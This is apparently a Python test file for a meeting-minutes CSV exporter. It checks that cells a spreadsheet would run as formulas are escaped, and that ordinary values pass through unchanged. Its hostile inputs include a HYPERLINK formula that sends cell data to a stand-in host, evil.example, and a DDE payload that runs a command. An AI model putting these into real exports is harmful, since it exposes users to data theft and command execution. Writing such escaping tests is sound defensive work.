"""The export's CSV files open in a spreadsheet: no cell may run as a formula there."""

from __future__ import annotations

import csv
import io

from ntc_jury.minutes.export import _csv


def _rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A2,"Voir")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,1)",
        "-2+3",
        "@SUM(A1)",
        "\tcaché",
        "\rcaché",
    ]

    [row] = _rows(_csv([{f"c{i}": text for i, text in enumerate(hostile)}]))

    assert list(row.values()) == ["'" + text for text in hostile]


def test_ordinary_values_are_written_as_they_are():
    values = {
        "name": "Dupont",
        "note": "Bonne écoute — reformule",
        "count": -3,
        "empty": "",
        "tags": ["a", "b"],
    }

    [row] = _rows(_csv([values]))

    assert row == {
        "name": "Dupont",
        "note": "Bonne écoute — reformule",
        "count": "-3",
        "empty": "",
        "tags": '["a", "b"]',
    }
